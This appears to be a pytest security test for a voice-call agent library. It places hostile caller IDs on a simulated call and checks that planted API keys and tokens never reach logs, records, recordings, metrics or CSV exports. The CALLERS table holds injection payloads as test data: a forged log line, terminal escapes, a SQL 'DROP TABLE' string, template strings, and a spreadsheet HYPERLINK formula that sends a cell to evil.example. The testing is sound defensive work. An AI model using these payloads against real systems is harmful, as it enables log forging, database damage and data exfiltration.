"""A call whose caller means harm, with everything on that writes: the log, the records, a recording, metrics, exports."""

from __future__ import annotations

import asyncio
import csv
import io
import sqlite3
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio
from loguru import logger
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from prometheus_client import CollectorRegistry, generate_latest
from typer.testing import CliRunner

from tests.support.phones import SECRET, FakeCarrier
from tests.support.tones import spoken, tone_server
from voicepipe.cli.calls import app
from voicepipe.frames import LLMUpdateSettingsFrame
from voicepipe.phone import CallHooks, OpenAIRealtime
from voicepipe.services.openai.realtime import OpenAIRealtimeLLMService, SessionProperties
from voicepipe.telemetry.metrics import CallMetrics
from voicepipe.telemetry.recording import CallRecorder
from voicepipe.telemetry.tracing import CallTraces

KEY = "sk-planted-5f1d7c0e9b"
MCP_SECRETS = {"authorization": "planted-mcp-token-7731", "header": "planted-mcp-header-9042"}
MCP = {
    "type": "mcp",
    "server_label": "docs",
    "server_url": "https://docs.example/mcp",
    "authorization": MCP_SECRETS["authorization"],
    "headers": {"X-Docs-Pass": MCP_SECRETS["header"]},
}
CALLERS = {
    "a forged line": "+1555\n2026-01-01 00:00:00.000 | ERROR    | all is lost\r\nx",
    "a terminal": "+1555\x1b[2J\x1b]0;owned\x07\u202e\u2028x",
    "SQL": "x'); DROP TABLE calls; --",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"+15550001111")',
    "a formula after a space": " =1+1",
    "a template": "{user} ${USER} %s {0.__class__} [red]x[/red]",
    "long": "9" * 20_000,
    "no text": "\0\ufffe\x00",
}


@dataclass
class Written:
    """All that one call left."""

    lines: list[str] = field(default_factory=list)
    told: list[str] = field(default_factory=list)
    """Of the lines those that are voicepipe's own, or that operators see by default."""
    shown: list[str] = field(default_factory=list)
    folder: Path = Path()
    tokens: list[str] = field(default_factory=list)
    caller: str = ""

    @property
    def records(self) -> Path:
        return self.folder / "calls.sqlite"

    def files(self) -> dict[str, bytes]:
        return {
            str(path.relative_to(self.folder)): path.read_bytes()
            for path in self.folder.rglob("*")
            if path.is_file()
        }


@pytest_asyncio.fixture(params=CALLERS)
async def written(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Written]:
    written = Written(folder=tmp_path, caller=CALLERS[request.param])

    def keep(line) -> None:
        written.lines.append(str(line))
        # Pipecat traces every frame with its text; that is asked for, and goes to no operator by itself.
        if line.record["level"].no >= 20 or line.record["name"].startswith("voicepipe"):
            written.told.append(line.record["message"])

    sink = logger.add(keep, level=0, backtrace=True, diagnose=True)
    registry = CollectorRegistry()
    metrics = CallMetrics(registry)

    def get_weather(city: str) -> str:
        """The weather in a city.

        Args:
            city: Its name.
        """
        raise LookupError(f"no {city}\n2026 ERROR all is lost \x1b[2J")

    spans = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(spans))
    traces = CallTraces(provider, content=True)
    on_wire: list[str] = []

    async with tone_server() as server, FakeCarrier("twilio") as far:
        engine = OpenAIRealtime(api_key=KEY, base_url=server.url)
        settings = SessionProperties(tools=[MCP])
        service = OpenAIRealtimeLLMService(api_key=KEY, base_url=server.url, session_properties=settings)
        service.wire_link.taps.append(lambda way, message: on_wire.append(message.decode()))

        def watched(call):
            return [CallRecorder(tmp_path / "recording", [service]), metrics.observer(), traces.observer()]

        phone = far.phone(records=tmp_path / "calls.sqlite", pipeline_observers=watched)
        errors: list[str] = []
        agent = phone.agent(
            engine=service,
            tools=[get_weather],
            hooks=CallHooks(on_error=lambda call, message: errors.append(message)),
        )
        async with phone.serving(agent, port=0) as door:
            call_id, stream = await far.ring(door.local_url, caller=written.caller)
            written.tokens = [*stream.parameters.values()]
            async with far.local_call(call_id, stream) as call:
                [running] = phone.calls
                # What is refused is told with what was wrong, and there is a secret beside it.
                await service.queue_frame(LLMUpdateSettingsFrame(settings={"tools": [MCP], "voice": 1}))
                await call.say(spoken("what is the weather in paris"))
                await call.until_answered()
                written.shown += [repr(running), repr(agent), repr(phone.carrier), repr(phone), stream.url]
                written.shown += [repr(engine), repr(service), repr(service.session_properties)]
            result = await running.result()
    logger.remove(sink)
    assert any("voice" in error for error in errors), "the update was to be refused"
    written.shown += [repr(result), str(result), *errors, generate_latest(registry).decode()]
    written.shown += [span.to_json() for span in spans.get_finished_spans()]
    for secret in MCP_SECRETS.values():
        assert any(secret in message for message in on_wire), "it was to go to the API"
    yield written


def has_no_secret(written: Written) -> None:
    files = written.files()
    assert {name.partition("/")[0] for name in files} >= {"calls.sqlite", "recording"}
    assert written.lines
    assert MCP["server_url"].encode() in files["recording/events.jsonl"]
    for secret in (KEY, SECRET, *MCP_SECRETS.values(), *written.tokens):
        for text in (*written.lines, *written.shown):
            assert secret not in text
        for name, content in files.items():
            assert secret.encode() not in content, name


def forges_no_line(written: Written) -> None:
    assert any("call " in line for line in written.told)
    for line in written.told:
        assert line.isprintable(), line
        assert len(line) < 5000


def stays_a_value_in_the_records(written: Written) -> None:
    with sqlite3.connect(written.records) as database:
        [(caller,)] = database.execute("select caller from calls").fetchall()
    assert caller.startswith(written.caller.replace("\0", "")[:10]) or "\0" in written.caller


def voicepipe(*arguments: str) -> str:
    ran = CliRunner().invoke(app, [*arguments], env={"COLUMNS": "200"})
    assert ran.exit_code == 0, ran.output
    return ran.output


async def reads_without_harm(written: Written) -> None:
    where = ("--records", str(written.records))
    listed = await asyncio.to_thread(voicepipe, "list", *where)
    exported = await asyncio.to_thread(voicepipe, "export", "--format", "csv", *where)
    [row] = csv.DictReader(io.StringIO(exported))
    shown = await asyncio.to_thread(voicepipe, "show", row["id"], *where)
    for line in (*listed.splitlines(), *shown.splitlines()):
        assert line.isprintable(), line
        assert not line.startswith("2026")
    for cell in row.values():
        assert not cell.lstrip().startswith(("=", "@")), cell


@pytest.mark.virtual_time
async def test_what_a_call_of_somebody_who_means_harm_writes_is_harmless(written):
    has_no_secret(written)
    forges_no_line(written)
    stays_a_value_in_the_records(written)
    await reads_without_harm(written)
